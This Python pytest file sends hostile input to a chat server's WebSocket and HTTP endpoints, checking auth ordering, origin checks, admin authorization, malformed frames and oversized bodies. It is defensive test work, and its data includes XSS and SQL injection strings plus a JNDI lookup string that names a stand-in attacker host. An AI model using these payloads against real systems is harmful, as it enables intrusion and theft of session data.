"""Hostile input over real sockets: each case is refused cleanly, and nothing else breaks.

No case may produce a 500, a traceback to the client, a lost message or a stuck
connection: every refused frame is answered with an `error` (the connection then
still answers a ping), and the last test checks the server log for tracebacks.
Token forgeries (alg none, wrong key, tampered payload, missing claims, refresh as
access, 2 MB in an auth frame) are in tests/test_auth.py; the same ref sent five
times across a reconnect and private rooms in tests/test_ws_core.py.
"""

from __future__ import annotations

import asyncio
import json
import re
import uuid
from typing import Any

import httpx
import pytest
from websockets.asyncio.client import ClientConnection
from websockets.exceptions import ConnectionClosed, InvalidStatus

from tests.conftest import ServerFactory
from tests.harness import (
    Account,
    Api,
    Server,
    ServerProcess,
    connect,
    expect_no_frame,
    join,
    one_node,
    recv,
    recv_until,
    say,
    unique,
)
from tests.rawws import RawClient


@pytest.fixture(scope="module")
def server(module_servers: ServerFactory) -> ServerProcess:
    # The module's shared accounts send a lot: rate limits are tested in test_limits.
    return module_servers(auth_timeout=1, send_rate=1000, send_burst=1000)


@pytest.fixture(scope="module")
def alice(api: Api) -> Account:
    return api.user()


async def alive(ws: ClientConnection) -> None:
    """The connection still answers: not stuck, not closed."""
    await ws.send(json.dumps({"type": "ping", "ref": "alive?"}))
    assert (await recv_until(ws, "pong"))["ref"] == "alive?"


# --- authentication -----------------------------------------------------------------------


@pytest.mark.parametrize("size", [10_000, 2_000_000])
async def test_oversized_token_in_the_handshake_header_gets_431(
    server: ServerProcess, alice: Account, size: int
) -> None:
    raw = await RawClient.connect(server.port, {"Authorization": "Bearer " + "a" * size})
    assert raw.status == 431
    await raw.close()
    ws = await connect(server, alice.token)  # the server is unharmed
    await alive(ws)
    await ws.close()


@pytest.mark.parametrize(
    "first",
    [
        '{"type": "join", "room": "general"}',
        '{"type": "send", "room": "general", "body": "hi", "ref": "r"}',
        '{"type": "ping"}',
        "not json",
        "[]",
        '{"type": "auth"}',
        '{"type": "auth", "token": 12}',
    ],
)
async def test_anything_but_auth_first_closes_1008(server: ServerProcess, first: str) -> None:
    ws = await connect(server)
    await ws.send(first)
    with pytest.raises(ConnectionClosed):
        await recv(ws, 3)
    assert ws.close_code == 1008


async def test_auth_sent_twice_is_a_harmless_reauth(server: ServerProcess, alice: Account) -> None:
    ws = await connect(server)
    frame = json.dumps({"type": "auth", "token": alice.token, "ref": "a"})
    await ws.send(frame)
    await ws.send(frame)
    assert (await recv(ws))["type"] == "hello"
    assert (await recv(ws))["type"] == "reauthed"
    await alive(ws)
    await ws.close()


async def test_no_auth_frame_within_the_deadline_closes_1008(server: ServerProcess) -> None:
    ws = await connect(server)
    with pytest.raises(ConnectionClosed):
        await recv(ws, 3)
    assert ws.close_code == 1008


# --- origins ------------------------------------------------------------------------------


async def test_lookalike_origins_are_refused_same_origin_and_bots_accepted(
    server: Server, alice: Account
) -> None:
    node = one_node(server)  # same-origin is per listening address: one process
    host = f"127.0.0.1:{node.port}"
    for origin in (
        "https://evil.example",
        "null",
        f"http://{host}.evil.example",
        f"http://127.0.0.1.evil.example:{node.port}",
        f"http://evil.example/{host}",
        f"http://{host}@evil.example",
        f"https://{host}",  # another scheme is another origin
        f"http://localhost:{node.port}",  # another name for the host is too
        f"http://{host}:1",
    ):
        with pytest.raises(InvalidStatus) as refused:
            await connect(node, alice.token, additional_headers={"Origin": origin})
        assert refused.value.response.status_code == 403, origin
    for headers in ({"Origin": f"http://{host}"}, {}):  # same origin; a bot without Origin
        ws = await connect(node, alice.token, additional_headers=headers)
        await alive(ws)
        await ws.close()


# --- authorization ------------------------------------------------------------------------


def admin_routes(api: Api) -> list[tuple[str, str]]:
    """Every admin-only route the server declares (from its OpenAPI document)."""
    spec = api.client.get("/openapi.json").json()
    routes = []
    for path, methods in spec["paths"].items():
        if path.startswith(("/api/admin", "/api/bots", "/api/webhooks")):
            concrete = re.sub(r"\{[^}]+\}", "1", path)
            routes.extend((method.upper(), concrete) for method in methods)
    return routes


def test_non_admins_get_403_on_every_admin_endpoint(api: Api, alice: Account) -> None:
    routes = admin_routes(api)
    assert ("POST", "/api/admin/users/1/ban") in routes and ("DELETE", "/api/bots/1") in routes
    assert ("GET", "/api/webhooks/1/deliveries") in routes
    for method, path in routes:
        body = {"name": "sneaky_bot", "username": alice.name}
        as_user = api.client.request(method, path, json=body, headers=alice.headers)
        assert as_user.status_code == 403, (method, path, as_user.text)
        anonymous = api.client.request(method, path, json=body)
        assert anonymous.status_code == 401, (method, path)


async def test_private_room_is_indistinguishable_from_a_missing_one(
    server: ServerProcess, api: Api, alice: Account
) -> None:
    owner = api.user()
    private = api.room(owner, private=True)
    await say_in(server, owner, private, "secret")
    missing = unique("nothing-here")
    ws = await connect(server, alice.token)
    answers = []
    for room in (private, missing):
        for frame in (
            {"type": "join", "room": room, "since": 0},
            {"type": "send", "room": room, "body": "x", "ref": unique()},
            {"type": "typing", "room": room},
            {"type": "leave", "room": room},
        ):
            await ws.send(json.dumps(frame))
            error = await recv_until(ws, "error")
            answers.append((frame["type"], error["code"], error["detail"]))
        r = api.client.get(f"/api/rooms/{room}/messages", headers=alice.headers)
        answers.append(("history", str(r.status_code), r.json()["detail"]))
    half = len(answers) // 2
    assert answers[:half] == answers[half:]
    await expect_no_frame(ws, 0.3, kind="message")
    await alive(ws)
    await ws.close()


async def say_in(server: ServerProcess, account: Account, room: str, body: str) -> dict[str, Any]:
    ws = await connect(server, account.token)
    await join(ws, room)
    ack = await say(ws, room, body)
    await ws.close()
    return ack


# --- malformed frames ---------------------------------------------------------------------

BAD_FRAMES = {
    "not JSON": "{nope",
    "empty": "",
    "array": '[{"type": "ping"}]',
    "null": "null",
    "number": "42",
    "string": '"ping"',
    # Nesting as deep as 64 KiB allows, beyond Python's recursion limit.
    "deep array": "[" * 32_000 + "]" * 32_000,
    "deep object": '{"a":' * 10_000 + "1" + "}" * 10_000,
    "deep in a field": '{"type": "ping", "x": ' + "[" * 30_000 + "]" * 30_000 + "}",
    "no type": '{"room": "x"}',
    "unknown type": '{"type": "shutdown"}',
    "type not a string": '{"type": 7}',
    "room not a string": '{"type": "join", "room": 5}',
    "room too long": json.dumps({"type": "join", "room": "r" * 201}),
    "body not a string": '{"type": "send", "room": "x", "body": ["a"], "ref": "r"}',
    "body null": '{"type": "send", "room": "x", "body": null, "ref": "r"}',
    "no ref on send": '{"type": "send", "room": "x", "body": "a"}',
    "ref too long": json.dumps({"type": "send", "room": "x", "body": "a", "ref": "r" * 65}),
    "ref a number": '{"type": "send", "room": "x", "body": "a", "ref": 1}',
    "since a string": '{"type": "join", "room": "x", "since": "1"}',
    "since negative": '{"type": "join", "room": "x", "since": -1}',
    "since a float": '{"type": "join", "room": "x", "since": 1.5}',
    "since infinite": '{"type": "join", "room": "x", "since": 1e400}',
    "since a bool": '{"type": "join", "room": "x", "since": true}',
    "lone surrogate body": '{"type": "send", "room": "x", "body": "a\\ud800", "ref": "r"}',
    "lone surrogate ref": '{"type": "ping", "ref": "\\udfff"}',
    "NaN": '{"type": "join", "room": "x", "since": NaN}',
}


@pytest.mark.parametrize("raw", BAD_FRAMES.values(), ids=BAD_FRAMES.keys())
async def test_malformed_frames_get_bad_frame_and_keep_the_connection(
    server: ServerProcess, alice: Account, raw: str
) -> None:
    ws = await connect(server, alice.token)
    await ws.send(raw)
    error = await recv_until(ws, "error")
    assert error["code"] == "bad_frame", error
    assert "Traceback" not in error["detail"] and len(error["detail"]) < 300
    await alive(ws)
    await ws.close()


async def test_binary_frame_gets_bad_frame(server: ServerProcess, alice: Account) -> None:
    ws = await connect(server, alice.token)
    await ws.send(b"\x00\xff" * 10)
    assert (await recv_until(ws, "error"))["code"] == "bad_frame"
    await alive(ws)
    await ws.close()


async def test_invalid_utf8_closes_1007_and_nothing_else(
    server: ServerProcess, alice: Account
) -> None:
    raw = await RawClient.connect(server.port, {"Authorization": f"Bearer {alice.token}"})
    assert (await raw.read_json())["type"] == "hello"
    await raw.send(0x1, b'{"type": "ping", "ref": "\xff\xfe"}')
    assert await raw.read_close() == 1007
    await raw.close()
    ws = await connect(server, alice.token)
    await alive(ws)
    await ws.close()


# --- content ------------------------------------------------------------------------------

VERBATIM = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(document.cookie)">',
    "'; DROP TABLE messages; --",
    "Robert'); DROP TABLE users;--",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s %n",
    "\u202egnp.exe",  # right-to-left override: text, not a control
    "line one\nline two\ttab",
    "emoji \U0001f600 and 中文",
]


async def test_markup_and_sql_are_stored_and_delivered_verbatim(
    server: ServerProcess, api: Api, alice: Account
) -> None:
    bob = api.user()
    # Within the 64-character limit whatever the suffix.
    room = api.room(
        alice, f"<script>alert(1)</script>'; DROP TABLE rooms;-- {uuid.uuid4().hex[:8]}"
    )
    a = await connect(server, alice.token)
    b = await connect(server, bob.token)
    for ws in (a, b):
        joined = await join(ws, room)
        assert joined["room"] == room
    for body in VERBATIM:
        await say(a, room, body)
        assert (await recv_until(b, "message"))["body"] == body
    assert [m["body"] for m in reversed(api.history(bob, room))] == VERBATIM
    listed = api.client.get("/api/rooms", headers=bob.headers).json()["items"]
    assert room in [r["name"] for r in listed]
    for ws in (a, b):
        await ws.close()


@pytest.mark.parametrize(
    "body",
    ["", " ", " \n\t ", "\u200b", "\u200b\u200c\u200d\ufeff", "\u00a0\u3000", "a\x00b", "\x00"],
    ids=["empty", "space", "whitespace", "zero-width", "invisibles", "nbsp", "NUL inside", "NUL"],
)
async def test_empty_invisible_and_nul_bodies_are_refused(
    server: ServerProcess, api: Api, alice: Account, body: str
) -> None:
    room = api.room(alice)
    ws = await connect(server, alice.token)
    await join(ws, room)
    await ws.send(json.dumps({"type": "send", "room": room, "body": body, "ref": "bad"}))
    error = await recv_until(ws, "error", ref="bad")
    assert error["code"] == "bad_frame"
    assert (await say(ws, room, "fine"))["seq"] == 1  # nothing was stored before it
    await ws.close()


def test_lookalike_usernames_are_normalized_or_refused(api: Api) -> None:
    boss = api.user(unique("boss"))
    for lookalike in (boss.name[:2] + "\u200b" + boss.name[2:], boss.name + "\u0000"):
        r = api.client.post(
            "/api/auth/register", json={"username": lookalike, "password": "x" * 12}
        )
        assert r.status_code == 422
        login = api.client.post(
            "/api/auth/token", data={"username": lookalike, "password": boss.password}
        )
        assert login.status_code == 401
    fullwidth = "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in boss.name)
    assert api.client.post(
        "/api/auth/register", json={"username": fullwidth, "password": "x" * 12}
    ).status_code in (409, 422)
    # Signing in with the fullwidth spelling is signing in to the one account it folds to.
    token = api.login(fullwidth, boss.password)["access_token"]
    me = api.client.get("/api/me", headers={"Authorization": f"Bearer {token}"}).json()
    assert me["id"] == boss.id


# --- since and refs -----------------------------------------------------------------------


async def test_hostile_since_values(server: ServerProcess, api: Api, alice: Account) -> None:
    here, elsewhere = api.room(alice), api.room(alice)
    ws = await connect(server, alice.token)
    await join(ws, elsewhere)
    for i in range(8):
        await say(ws, elsewhere, f"elsewhere {i}")
    await join(ws, here)
    for i in range(3):
        await say(ws, here, f"here {i}")
    reader = await connect(server, alice.token)
    # From the future: no replay, and live messages are not skipped.
    joined = await join(reader, here, since=10**12)
    assert joined["last_seq"] == 3
    await expect_no_frame(reader, 0.3, kind="message")
    await say(ws, here, "live")
    live = await recv_until(reader, "message")
    assert (live["seq"], live["body"]) == (4, "live")
    # A seq of another room is just a number here: nothing of that room leaks.
    await reader.send(json.dumps({"type": "leave", "room": here}))
    await recv_until(reader, "left")
    await join(reader, here, since=2)
    replay = [await recv_until(reader, "message") for _ in range(2)]
    assert [(m["room"], m["seq"]) for m in replay] == [(here, 3), (here, 4)]
    await expect_no_frame(reader, 0.3, kind="message")
    # Huge numbers are refused or harmless, never a server error.
    for since in (2**63, 10**30):
        await reader.send(json.dumps({"type": "join", "room": here, "since": since}))
        answer = await recv_until(reader, "joined")
        assert answer["last_seq"] == 4
    for query in ("after=99999999999999999999999", "before=-5", "limit=10000000000000000000"):
        r = api.client.get(f"/api/rooms/{here}/messages?{query}", headers=alice.headers)
        assert r.status_code == 422, query
    await alive(reader)
    for c in (ws, reader):
        await c.close()


def test_out_of_range_ids_over_http_are_a_422(api: Api) -> None:
    admin = api.admin()
    huge = "99999999999999999999999"
    for method, path in (
        ("GET", f"/api/alerts?before={huge}"),
        ("GET", f"/api/alerts?before=-{huge}"),
        ("DELETE", f"/api/bots/{huge}"),
        ("DELETE", f"/api/bots/-{huge}"),
    ):
        r = api.client.request(method, path, headers=admin.headers)
        assert r.status_code == 422, (method, path, r.status_code, r.text[:200])
    # In range, still answered normally.
    assert api.client.get("/api/alerts?before=1", headers=admin.headers).status_code == 200
    # The largest id a route takes is 2**53 - 1 (exact as a JSON number): above, a 422.
    assert api.client.delete(f"/api/bots/{2**53 - 1}", headers=admin.headers).status_code == 404
    assert api.client.delete(f"/api/bots/{2**53}", headers=admin.headers).status_code == 422


def test_oversized_request_bodies_get_413_before_parsing(api: Api, alice: Account) -> None:
    big = json.dumps({"username": "x" * 200_000, "password": "correct horse"})
    r = api.client.post(
        "/api/auth/register", content=big, headers={"Content-Type": "application/json"}
    )
    assert r.status_code == 413, r.text[:200]
    assert "larger than 65536 bytes" in r.json()["detail"]
    assert len(r.content) < 200

    def chunks() -> Any:  # no Content-Length: counted as it streams in
        for _ in range(100):
            yield b"x" * 4096

    r = api.client.post(
        "/api/rooms",
        content=chunks(),
        headers={**alice.headers, "Content-Type": "application/json"},
    )
    assert r.status_code == 413, r.text[:200]
    assert "larger than 65536 bytes" in r.json()["detail"]
    # POST /api/tasks keeps its larger bound (CSV imports): 100 KB is read and judged.
    r = api.client.post(
        "/api/tasks",
        json={"kind": "demo", "params": {"steps": 1, "delay": 0, "x": "y" * 100_000}},
        headers=alice.headers,
    )
    assert r.status_code == 422, r.text[:200]
    assert api.client.get("/healthz").status_code == 200


def test_422_does_not_echo_the_input(api: Api) -> None:
    username = "u" * 60_000
    r = api.client.post(
        "/api/auth/register", json={"username": username, "password": "correct horse"}
    )
    assert r.status_code == 422
    assert len(r.content) < 1000, len(r.content)
    assert "uuuuuuuuuu" not in r.text
    (error,) = r.json()["detail"]
    assert error["loc"] == ["body", "username"] and "input" not in error


def test_lone_surrogates_over_http_are_a_422(api: Api, alice: Account) -> None:
    for path, body, headers in (
        ("/api/rooms", '{"name": "x\\ud800"}', alice.headers),
        ("/api/auth/register", '{"username": "ab\\udc00cd", "password": "xxxxxxxxxx"}', {}),
    ):
        r = api.client.post(
            path, content=body, headers={**headers, "Content-Type": "application/json"}
        )
        assert r.status_code == 422, (path, r.text)


# --- last: the server logged no traceback for any of it ---------------------------------


async def test_zz_server_logged_no_traceback_and_answered_no_500(
    server: ServerProcess, api: Api
) -> None:
    async with httpx.AsyncClient(base_url=server.http) as client:
        assert (await client.get("/healthz")).status_code == 200
    await asyncio.sleep(0.2)
    log = server.log()
    assert "Traceback" not in log, log[log.find("Traceback") - 500 :][:3000]
    assert '" 500' not in log
